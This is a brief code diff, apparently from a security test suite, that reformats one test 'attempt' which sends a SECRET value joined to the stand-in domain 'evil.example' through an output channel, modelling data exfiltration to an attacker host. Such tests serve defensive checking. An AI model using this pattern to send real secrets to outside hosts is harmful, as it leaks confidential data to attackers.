@@ -9,4 +9,6 @@ from attack import SECRET, at_allowed, attempt, greeting
 
 @attempt
 def send():
-    return at_allowed(lambda out: [out.send(bytes([byte])) for byte in greeting(SECRET + ".evil.example")])
+    return at_allowed(
+        lambda out: [out.send(bytes([byte])) for byte in greeting(SECRET + ".evil.example")]
+    )
